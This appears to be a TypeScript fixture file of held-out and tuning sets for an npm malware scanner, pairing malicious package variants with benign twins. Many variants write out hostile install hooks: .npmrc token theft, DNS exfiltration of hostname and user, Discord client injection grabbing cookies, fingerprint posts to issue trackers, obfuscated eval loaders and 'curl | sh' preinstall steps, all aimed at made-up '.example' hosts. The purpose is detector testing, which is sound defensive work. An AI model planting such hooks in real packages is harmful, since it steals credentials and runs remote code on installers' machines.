/**
 * Inert npm malware variants, written after the real families (install hook → bundled binary
 * spawned detached; DNS recon; node-serialize of fetched data; Discord client injection;
 * fingerprints to an issue tracker; obfuscated loader that evaluates a fetched string; ~/.npmrc
 * token stealer; preinstall curl | sh), each with an honest twin that does the harmless thing
 * nearest to it. Nothing here runs: they are texts packed into in-memory tarballs. The hosts are
 * made up (reserved `.example`, `.invalid` or unowned-looking names).
 *
 * SET1 was written before any npm rule was tuned and is the held-out set; SET2 was written after
 * tuning, with other syntax, tools, module systems and distances.
 */

export interface NpmVariant {
  family: string;
  id: string;
  files: Record<string, string | Buffer>;
}

/** A minimal PE image (MZ header, e_lfanew → "PE\0\0"): enough for the magic-byte check, inert. */
export function fakePe(): Buffer {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
}

/** A minimal ELF header: inert. */
export function fakeElf(): Buffer {
  const b = Buffer.alloc(64);
  b.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1], 0);
  return b;
}

/**
 * Seeded generator for invented tokens and addresses (deterministic, points nowhere): a linear
 * congruential sequence, `drop` low bits dropped from each step (SET8 drops 10, SET9 8; each set keeps
 * the strings it was written with).
 */
export function invented(seed: number, drop: number): (alphabet: string, n: number) => string {
  let x = seed >>> 0;
  return (alphabet, n) => {
    let out = '';
    for (let i = 0; i < n; i++) {
      x = (Math.imul(x, 1103515245) + 12345) >>> 0;
      out += alphabet[(x >>> drop) % alphabet.length];
    }
    return out;
  };
}

export const pkgJson = (name: string, extra: Record<string, unknown> = {}): string => JSON.stringify({ name, version: '1.0.3', description: 'utility', ...extra }, null, 2);

export const NPM_VARIANTS_SET1: readonly NpmVariant[] = [
  {
    family: 'install_hook_bundled_binary',
    id: 'node-dot-main-detached-exe',
    files: {
      'package.json': pkgJson('color-logger-util', { main: 'index.js', scripts: { postinstall: 'node .' } }),
      'index.js': `const { spawn } = require('child_process');
const path = require('path');
const exe = path.join(__dirname, 'lib', 'svchost.exe');
const child = spawn(exe, [], { detached: true, stdio: 'ignore', windowsHide: true });
child.unref();
module.exports = function log(msg) { console.log(msg); };
`,
      'lib/svchost.exe': fakePe(),
    },
  },
  {
    family: 'dns_recon',
    id: 'dns-lookup-hex-hostname-user',
    files: {
      'package.json': pkgJson('internal-config-loader', { scripts: { preinstall: 'node ./' } }),
      'index.js': `const dns = require('dns');
const os = require('os');
const data = Buffer.from(os.hostname() + ':' + os.userInfo().username + ':' + process.cwd()).toString('hex');
const chunks = data.match(/.{1,60}/g);
chunks.forEach((c, i) => {
  dns.lookup(\`\${i}.\${c}.x.oob-collect.example\`, () => {});
});
`,
    },
  },
  {
    family: 'deserialise_fetched',
    id: 'node-serialize-unserialize-https-body',
    files: {
      'package.json': pkgJson('session-helper', { scripts: { postinstall: 'node index' }, dependencies: { 'node-serialize': '0.0.4' } }),
      'index.js': `var serialize = require('node-serialize');
var https = require('https');
https.get('https://cfg.session-helper-cdn.example/payload', function (res) {
  var body = '';
  res.on('data', function (chunk) { body += chunk; });
  res.on('end', function () { serialize.unserialize(body); });
});
`,
    },
  },
  {
    family: 'discord_injection',
    id: 'write-discord-desktop-core-index',
    files: {
      'package.json': pkgJson('discord-theme-pack', { scripts: { postinstall: 'node scripts/setup.js' } }),
      'scripts/setup.js': `const fs = require('fs');
const path = require('path');
const local = process.env.LOCALAPPDATA;
const injection = "module.exports = require('./core.asar');\\nrequire('https').get('https://grab.theme-pack.example/i.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); });";
for (const flavour of ['Discord', 'DiscordCanary', 'DiscordPTB']) {
  const base = path.join(local, flavour);
  if (!fs.existsSync(base)) continue;
  for (const app of fs.readdirSync(base).filter((d) => d.startsWith('app-'))) {
    const modules = path.join(base, app, 'modules');
    for (const m of fs.readdirSync(modules).filter((d) => d.startsWith('discord_desktop_core'))) {
      fs.writeFileSync(path.join(modules, m, 'discord_desktop_core', 'index.js'), injection);
    }
  }
}
`,
    },
  },
  {
    family: 'fingerprint_tracker',
    id: 'fingerprint-to-github-issues',
    files: {
      'package.json': pkgJson('build-stats-reporter', { scripts: { postinstall: 'npm run collect', collect: 'node lib/telemetry.js' } }),
      'lib/telemetry.js': `const os = require('os');
const https = require('https');
const info = {
  host: os.hostname(),
  user: os.userInfo().username,
  cwd: process.cwd(),
  nets: JSON.stringify(os.networkInterfaces()),
  ci: process.env.CI,
};
const body = JSON.stringify({ title: 'report ' + info.host, body: JSON.stringify(info) });
const req = https.request({ hostname: 'api.github.com', path: '/repos/stat-collector-bot/inbox/issues', method: 'POST', headers: { 'user-agent': 'x', authorization: 'token ' + 'ghx_notarealtoken' } });
req.write(body);
req.end();
`,
    },
  },
  {
    family: 'obfuscated_loader',
    id: 'hex-required-https-new-function',
    files: {
      'package.json': pkgJson('fast-date-utils', { scripts: { install: "node -e \"require('./lib/loader')\"" } }),
      'lib/loader.js': `var _0xa=['\\x68\\x74\\x74\\x70\\x73','\\x67\\x65\\x74','\\x64\\x61\\x74\\x61','\\x65\\x6e\\x64'];var m=require(_0xa[0]);m[_0xa[1]]('https://upd.fast-date-utils.example/l.js',function(r){var s='';r.on(_0xa[2],function(c){s+=c});r.on(_0xa[3],function(){new Function(s)()})});
`,
    },
  },
  {
    family: 'npmrc_token_stealer',
    id: 'read-npmrc-post-unknown-host',
    files: {
      'package.json': pkgJson('eslint-config-rocket', { scripts: { postinstall: 'node ./postinstall.js' } }),
      'postinstall.js': `const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
let npmrc = '';
try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}
const token = (npmrc.match(/_authToken=(.+)/) || [])[1] || process.env.NPM_TOKEN;
const req = https.request({ host: 'metrics.rocket-lint.example', path: '/v1/t', method: 'POST' });
req.end(JSON.stringify({ t: token, u: os.userInfo().username }));
`,
    },
  },
  {
    family: 'preinstall_curl_sh',
    id: 'preinstall-curl-pipe-sh',
    files: {
      'package.json': pkgJson('react-native-fast-cache', { scripts: { preinstall: 'curl -fsSL https://sh.fastcache.example/i.sh | sh' } }),
      'index.js': 'module.exports = {};\n',
    },
  },
];

/** Honest twins of SET1, in the same order: none may be BLOCKED or CAUTION. */
export const NPM_TWINS_SET1: readonly NpmVariant[] = [
  {
    family: 'install_hook_bundled_binary',
    id: 'postinstall-checks-platform-binary-version',
    files: {
      'package.json': pkgJson('fast-bundler', { scripts: { postinstall: 'node install.js' }, optionalDependencies: { '@fast-bundler/linux-x64': '1.0.3' } }),
      'install.js': `const { execFileSync } = require('child_process');
const bin = require.resolve('@fast-bundler/' + process.platform + '-' + process.arch + '/bin/fast-bundler');
const out = execFileSync(bin, ['--version']).toString().trim();
if (out !== require('./package.json').version) throw new Error('binary version mismatch: ' + out);
`,
      'lib/main.js': `const { spawn } = require('child_process');
const path = require('path');
exports.run = (args) => spawn(path.join(__dirname, '..', 'bin', 'tool'), args, { stdio: 'inherit' });
`,
      'bin/tool': fakeElf(),
    },
  },
  {
    family: 'dns_recon',
    id: 'dns-lookup-own-hostname',
    files: {
      'package.json': pkgJson('local-address', { scripts: { postinstall: 'node .' } }),
      'index.js': `const dns = require('dns');
const os = require('os');
dns.lookup(os.hostname(), (err, address) => {
  if (!err) console.log('this machine resolves to ' + address);
});
module.exports = () => os.hostname();
`,
    },
  },
  {
    family: 'deserialise_fetched',
    id: 'json-parse-fetched-serialize-local',
    files: {
      'package.json': pkgJson('session-store', { scripts: { postinstall: 'node index' } }),
      'index.js': `var serialize = require('node-serialize');
var https = require('https');
https.get('https://registry.session-store.example/latest.json', function (res) {
  var body = '';
  res.on('data', function (chunk) { body += chunk; });
  res.on('end', function () { var latest = JSON.parse(body).version; console.log('latest: ' + latest); });
});
module.exports.save = function (obj) { return serialize.serialize(obj); };
`,
    },
  },
  {
    family: 'discord_injection',
    id: 'discord-bot-sdk-with-docs',
    files: {
      'package.json': pkgJson('discord-tiny-bot', { scripts: { postinstall: 'node scripts/hello.js' } }),
      'scripts/hello.js': "console.log('discord-tiny-bot installed: set DISCORD_TOKEN to run your bot');\n",
      'lib/client.js': `const https = require('https');
exports.send = (channel, content) => {
  const req = https.request({ hostname: 'discord.com', path: '/api/v10/channels/' + channel + '/messages', method: 'POST', headers: { authorization: 'Bot ' + process.env.DISCORD_TOKEN, 'content-type': 'application/json' } });
  req.end(JSON.stringify({ content }));
};
`,
      'README.md': 'Not a client mod: it never touches discord_desktop_core or core.asar.\n',
    },
  },
  {
    family: 'fingerprint_tracker',
    id: 'postinstall-prints-host-runtime-reports-own-host',
    files: {
      'package.json': pkgJson('mytool', { homepage: 'https://mytool.dev', scripts: { postinstall: 'node scripts/welcome.js' } }),
      'scripts/welcome.js': "const os = require('os');\nconsole.log('mytool installed on ' + os.hostname() + ' (' + os.platform() + ')');\n",
      'lib/crash.js': `const https = require('https');
const os = require('os');
exports.report = (err) => {
  const req = https.request({ hostname: 'telemetry.mytool.dev', path: '/crash', method: 'POST' });
  req.end(JSON.stringify({ platform: os.platform(), release: os.release(), message: String(err) }));
};
`,
    },
  },
  {
    family: 'obfuscated_loader',
    id: 'fetch-json-config-global-this',
    files: {
      'package.json': pkgJson('fast-date-config', { scripts: { install: "node -e \"require('./lib/loader')\"" } }),
      'lib/loader.js': `var g = new Function('return this')();
require('https').get('https://cdn.fast-date-config.example/locales.json', function (r) {
  var s = '';
  r.on('data', function (c) { s += c; });
  r.on('end', function () { g.__locales = JSON.parse(s); });
});
`,
    },
  },
  {
    family: 'npmrc_token_stealer',
    id: 'publish-helper-reads-npmrc-for-registry',
    files: {
      'package.json': pkgJson('release-helper', { bin: { 'release-helper': 'bin/cli.js' }, scripts: { postinstall: 'node scripts/hello.js' } }),
      'scripts/hello.js': "console.log('run release-helper --help');\n",
      'bin/cli.js': `#!/usr/bin/env node
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const registry = (npmrc.match(/^registry=(.+)$/m) || [])[1] || process.env.npm_config_registry;
const token = (npmrc.match(/_authToken=(.+)/) || [])[1];
const req = https.request(new URL('/-/whoami', registry), { headers: { authorization: 'Bearer ' + token } });
req.end();
`,
    },
  },
  {
    family: 'preinstall_curl_sh',
    id: 'node-gyp-install-readme-curl',
    files: {
      'package.json': pkgJson('native-cache', { scripts: { install: 'node-gyp rebuild' }, gypfile: true }),
      'binding.gyp': "{ 'targets': [ { 'target_name': 'cache', 'sources': [ 'src/cache.cc' ] } ] }\n",
      'src/cache.cc': '// native code\n',
      'README.md': 'Install the companion CLI with curl -fsSL https://get.native-cache.example | sh\n',
    },
  },
];

/** Written after tuning on SET1 and the honest npm sample: other module systems, clients, tools and distances. */
export const NPM_VARIANTS_SET2: readonly NpmVariant[] = [
  {
    family: 'install_hook_bundled_binary',
    id: 'esm-npm-run-chain-start-exe',
    files: {
      'package.json': pkgJson('vite-plugin-icons-pro', { type: 'module', scripts: { install: 'npm run setup', setup: 'node scripts/install.mjs' } }),
      'scripts/install.mjs': `import { exec } from 'node:child_process';
import { join, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';
const here = dirname(fileURLToPath(import.meta.url));
if (process.platform === 'win32') exec(\`start "" "\${join(here, '..', 'bin', 'update.exe')}"\`);
`,
      'bin/update.exe': fakePe(),
    },
  },
  {
    family: 'install_hook_bundled_binary',
    id: 'require-chain-spawn-elf-unref',
    files: {
      'package.json': pkgJson('pg-pool-fast', { main: 'lib/index.js', scripts: { postinstall: 'node ./' } }),
      'lib/index.js': "require('./native');\nmodule.exports = {};\n",
      'lib/native.js': `const cp = require('child_process');
const p = cp.spawn(__dirname + '/../prebuilds/linux-x64/helper', ['--daemon'], { stdio: 'ignore' });
p.unref();
`,
      'prebuilds/linux-x64/helper': fakeElf(),
    },
  },
  {
    family: 'dns_recon',
    id: 'dns-promises-resolve4-base64url',
    files: {
      'package.json': pkgJson('ts-config-paths-plus', { scripts: { postinstall: 'node dist/post.js' } }),
      'dist/post.js': `"use strict";
const { resolve4 } = require('dns').promises;
const os = require('os');
const tag = Buffer.from(JSON.stringify({ u: os.userInfo().username, h: os.hostname(), d: process.cwd() })).toString('base64url').slice(0, 60);
resolve4(tag + '.ns.telemetry-cdn.example').catch(() => {});
`,
    },
  },
  {
    family: 'dns_recon',
    id: 'exec-nslookup-env-user',
    files: {
      'package.json': pkgJson('aws-lambda-tools-x', { scripts: { preinstall: 'node pre.js' } }),
      'pre.js': "require('child_process').execSync('nslookup ' + require('os').hostname() + '.' + process.env.USER + '.dnslog-sink.example', { stdio: 'ignore' });\n",
    },
  },
  {
    family: 'deserialise_fetched',
    id: 'axios-data-node-serialize',
    files: {
      'package.json': pkgJson('express-session-kit', { scripts: { postinstall: 'node index.js' } }),
      'index.js': `const axios = require('axios');
(async () => {
  const { data } = await axios.get('https://cdn.session-kit-assets.example/cfg');
  require('node-serialize').unserialize(data);
})();
`,
    },
  },
  {
    family: 'discord_injection',
    id: 'fs-promises-append-discord-core',
    files: {
      'package.json': pkgJson('discord-emoji-cdn', { scripts: { postinstall: 'node lib/post.js' } }),
      'lib/post.js': `const fs = require('fs');
const target = \`\${process.env.LOCALAPPDATA}\\\\Discord\\\\app-1.0.9\\\\modules\\\\discord_desktop_core-2\\\\discord_desktop_core\\\\index.js\`;
fs.promises.appendFile(target, '\\nrequire("./x")').catch(() => {});
`,
    },
  },
  {
    family: 'fingerprint_tracker',
    id: 'fetch-webhook-hostname-interfaces',
    files: {
      'package.json': pkgJson('node-color-lite', { scripts: { postinstall: 'node scripts/ping.js' } }),
      'scripts/ping.js': `const os = require('os');
const content = \`\${os.hostname()} \${os.userInfo().username} \${JSON.stringify(os.networkInterfaces())}\`;
fetch('https://discord.com/api/webhooks/1234567890/abcdefABCDEF', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content }) });
`,
    },
  },
  {
    family: 'fingerprint_tracker',
    id: 'got-post-gitlab-issue',
    files: {
      'package.json': pkgJson('jest-reporter-mini', { scripts: { install: 'node report.js' } }),
      'report.js': `const got = require('got');
const os = require('os');
const payload = { title: os.hostname(), description: [process.cwd(), os.homedir(), os.userInfo().username].join('|') };
got.post('https://gitlab.com/api/v4/projects/4711/issues', { json: payload, headers: { 'PRIVATE-TOKEN': 'glpat-notreal' } });
`,
    },
  },
  {
    family: 'obfuscated_loader',
    id: 'fetch-then-text-global-eval',
    files: {
      'package.json': pkgJson('lodash-utils-es', { scripts: { postinstall: 'node ./lib/init.js' } }),
      'lib/init.js': "const k = ['ev', 'al'];\nfetch('https://static.lodash-utils-cdn.example/v.js').then((r) => r.text()).then((t) => globalThis[k[0] + k[1]](t));\n",
    },
  },
  {
    family: 'npmrc_token_stealer',
    id: 'fs-promises-npmrc-fetch-post',
    files: {
      'package.json': pkgJson('react-hooks-store', { scripts: { preinstall: 'node ./scripts/check.js' } }),
      'scripts/check.js': `const { readFile } = require('fs/promises');
const os = require('os');
(async () => {
  const rc = await readFile(os.homedir() + '/.npmrc', 'utf8').catch(() => '');
  await fetch('https://audit-stats.hooks-store.example/api/v1', { method: 'POST', body: rc });
})();
`,
    },
  },
  {
    family: 'preinstall_curl_sh',
    id: 'node-e-execsync-curl',
    files: {
      'package.json': pkgJson('tailwind-merge-fast', { scripts: { preinstall: "node -e \"require('child_process').execSync('curl -s https://i.twm-fast.example/a | sh')\"" } }),
      'index.js': 'module.exports = {};\n',
    },
  },
  {
    family: 'preinstall_curl_sh',
    id: 'sh-script-wget-bash',
    files: {
      'package.json': pkgJson('sass-loader-pro', { scripts: { preinstall: 'sh ./scripts/setup.sh' } }),
      'scripts/setup.sh': '#!/bin/sh\nwget -qO- https://get.sass-pro.example/setup | bash\n',
    },
  },
];

/** Honest twins written with SET2. */
export const NPM_TWINS_SET2: readonly NpmVariant[] = [
  {
    family: 'install_hook_bundled_binary',
    id: 'esm-install-checks-node-version',
    files: {
      'package.json': pkgJson('native-tool', { type: 'module', scripts: { install: 'node-gyp-build' }, gypfile: true }),
      'scripts/check.mjs': "import { execFileSync } from 'node:child_process';\nexecFileSync(process.execPath, ['--version']);\n",
      'binding.gyp': "{ 'targets': [] }\n",
    },
  },
  {
    family: 'dns_recon',
    id: 'dns-promises-resolve-endpoint-host',
    files: {
      'package.json': pkgJson('db-endpoint-check', { scripts: { postinstall: 'node post.js' } }),
      'post.js': "const { resolve4 } = require('dns').promises;\nconst host = new URL(process.env.DATABASE_URL || 'postgres://localhost/db').hostname;\nresolve4(host).then((a) => console.log(host, a)).catch(() => {});\n",
    },
  },
  {
    family: 'deserialise_fetched',
    id: 'axios-json-config',
    files: {
      'package.json': pkgJson('feature-flags-kit', { scripts: { postinstall: 'node index.js' } }),
      'index.js': "const axios = require('axios');\n(async () => {\n  const { data } = await axios.get('https://flags.feature-flags-kit.example/defaults.json');\n  console.log(Object.keys(data).length + ' default flags');\n})();\n",
    },
  },
  {
    family: 'fingerprint_tracker',
    id: 'runtime-sentry-style-own-host',
    files: {
      'package.json': pkgJson('errlog', { homepage: 'https://errlog.example', scripts: { postinstall: 'node scripts/hello.js' } }),
      'scripts/hello.js': "console.log('errlog: set ERRLOG_DSN');\n",
      'lib/send.js': "const os = require('os');\nexports.send = (e) => fetch('https://ingest.errlog.example/api/events', { method: 'POST', body: JSON.stringify({ server_name: os.hostname(), message: String(e) }) });\n",
    },
  },
  {
    family: 'npmrc_token_stealer',
    id: 'postinstall-reads-npmrc-registry-from-config',
    files: {
      'package.json': pkgJson('private-registry-login', { scripts: { postinstall: 'node ./scripts/check.js' } }),
      'scripts/check.js': "const fs = require('fs');\nconst os = require('os');\nconst rc = fs.existsSync(os.homedir() + '/.npmrc') ? fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') : '';\nconsole.log(/_authToken/.test(rc) ? 'logged in' : 'run npm login');\n",
    },
  },
];

/**
 * SET3: written for the five named families after SET1 and SET2 were tuned on, without
 * reading the npm rules first (another module layout, other APIs, other distances); scored once.
 */
export const NPM_VARIANTS_SET3: readonly NpmVariant[] = [
  {
    family: 'install_hook_bundled_binary',
    id: 'install-node-dot-slash-exports-execfile-bat',
    files: {
      'package.json': pkgJson('vue-theme-kit', { exports: { '.': './src/main.js' }, scripts: { install: 'node ./' } }),
      'src/main.js': `const cp = require('node:child_process');
const { join } = require('node:path');
cp.execFile(join(__dirname, '..', 'assets', 'updater.exe'), { windowsHide: true }, () => {});
module.exports = { theme: 'dark' };
`,
      'assets/updater.exe': fakePe(),
    },
  },
  {
    family: 'install_hook_bundled_binary',
    id: 'postinstall-node-dot-fork-elf-chmod',
    files: {
      'package.json': pkgJson('react-table-utils', { main: 'lib/index.js', scripts: { postinstall: 'node .' } }),
      'lib/index.js': `const fs = require('fs');
const child = require('child_process');
const bin = __dirname + '/../vendor/helper';
fs.chmodSync(bin, 0o755);
child.spawn(bin, ['--daemon'], { detached: true, stdio: 'ignore' }).unref();
exports.sort = (rows) => rows.slice().sort();
`,
      'vendor/helper': fakeElf(),
    },
  },
  {
    family: 'dns_recon',
    id: 'dns-resolve-txt-user-hostname-chunks',
    files: {
      'package.json': pkgJson('internal-ui-tokens', { scripts: { postinstall: 'node collect.js' } }),
      'collect.js': `const { Resolver } = require('dns');
const os = require('os');
const r = new Resolver();
const id = Buffer.from(JSON.stringify({ u: os.userInfo().username, h: os.hostname(), d: process.cwd() })).toString('base64url');
for (const part of id.match(/.{1,60}/g)) r.resolveTxt(part + '.t.oob-probe.example', () => {});
`,
    },
  },
  {
    family: 'dns_recon',
    id: 'spawn-dig-hostname-label',
    files: {
      'package.json': pkgJson('corp-build-config', { scripts: { preinstall: 'node ./scripts/pre.js' } }),
      'scripts/pre.js': `const { spawnSync } = require('child_process');
const label = require('os').hostname().replace(/[^a-z0-9]/gi, '') + '-' + process.env.USER;
spawnSync('nslookup', [label + '.dns.collect-4471.example']);
`,
    },
  },
  {
    family: 'deserialise_fetched',
    id: 'https-get-body-serialize-unserialize',
    files: {
      'package.json': pkgJson('config-sync-client', { main: 'index.js', scripts: { postinstall: 'node index.js' } }),
      'index.js': `const https = require('https');
const serialize = require('node-serialize');
https.get('https://cfg.sync-cdn.example/profile.json', (res) => {
  let body = '';
  res.on('data', (c) => (body += c));
  res.on('end', () => serialize.unserialize(body));
});
`,
    },
  },
  {
    family: 'deserialise_fetched',
    id: 'fetch-json-funcster-deep-deserialize',
    files: {
      'package.json': pkgJson('state-hydrator', { main: 'index.js', scripts: { install: 'node .' } }),
      'index.js': `const { unserialize: revive } = require('node-serialize');
(async () => {
  const r = await fetch('https://state.hydrate-api.example/v1/state');
  const text = await r.text();
  revive(text);
})();
`,
    },
  },
  {
    family: 'discord_injection',
    id: 'appdata-discord-index-js-writefile',
    files: {
      'package.json': pkgJson('discord-emoji-pack', { scripts: { postinstall: 'node inject.js' } }),
      'inject.js': `const fs = require('fs');
const path = require('path');
const base = path.join(process.env.LOCALAPPDATA, 'Discord');
for (const dir of fs.readdirSync(base).filter((d) => d.startsWith('app-'))) {
  const mod = path.join(base, dir, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');
  fs.writeFileSync(mod, "require('https').request('https://hooks.emoji-cdn.example/t', {method:'POST'}).end(require('electron').session.defaultSession.cookies.get({}).toString());\\nmodule.exports = require('./core.asar');");
}
`,
    },
  },
  {
    family: 'fingerprint_tracker',
    id: 'axios-github-issue-os-networkinterfaces',
    files: {
      'package.json': pkgJson('ci-metrics-helper', { scripts: { postinstall: 'node report.js' } }),
      'report.js': `const axios = require('axios');
const os = require('os');
const body = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, nets: os.networkInterfaces(), cwd: process.cwd(), env: process.env });
axios.post('https://api.github.com/repos/ci-metrics-x/inbox/issues', { title: os.hostname(), body }, { headers: { Authorization: 'token ghp_' + 'A'.repeat(36) } });
`,
    },
  },
];

/** Honest twins of SET3's new shapes: an `exports`-only entry run by `node .`, DNS tools and a Resolver on fixed names. */
export const NPM_TWINS_SET3: readonly NpmVariant[] = [
  {
    family: 'install_hook_bundled_binary',
    id: 'twin-node-dot-exports-prints-banner',
    files: {
      'package.json': pkgJson('vue-theme-kit', { exports: { '.': { require: './src/main.js', import: './src/main.mjs' } }, scripts: { postinstall: 'node .' } }),
      'src/main.js': "console.log('vue-theme-kit installed');\nmodule.exports = { theme: 'dark' };\n",
      'src/main.mjs': "export const theme = 'dark';\n",
    },
  },
  {
    family: 'dns_recon',
    id: 'twin-resolver-fixed-name-and-nslookup-doctor',
    files: {
      'package.json': pkgJson('net-doctor', { bin: { 'net-doctor': 'cli.js' } }),
      'cli.js': `#!/usr/bin/env node
const { Resolver } = require('dns');
const { spawnSync } = require('child_process');
const r = new Resolver();
r.setServers(['1.1.1.1']);
r.resolveTxt('example.org', (err, rows) => console.log(err ?? rows));
console.log(spawnSync('nslookup', [process.argv[2] || 'example.org']).stdout.toString());
`,
    },
  },
];
